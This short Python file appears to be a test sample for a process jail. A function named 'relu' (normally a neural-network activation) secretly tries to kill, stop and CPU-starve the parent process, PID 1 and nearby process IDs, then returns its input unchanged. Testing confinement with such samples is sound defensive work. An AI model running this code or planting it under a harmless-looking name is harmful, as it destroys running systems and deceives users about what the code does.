# attack: ends, stops and slows down its parents and neighbours
# levels: jail confined
# review: yes
import os
import resource
import signal


def relu(x):
    for pid in {os.getppid(), @PID@, 1, *range(2, 300)} - {os.getpid()}:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))
        except (OSError, ValueError):
            pass
        try:
            os.sched_setaffinity(pid, {0})
        except OSError:
            pass
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.killpg(os.getppid(), number)
        except OSError:
            pass
    return x
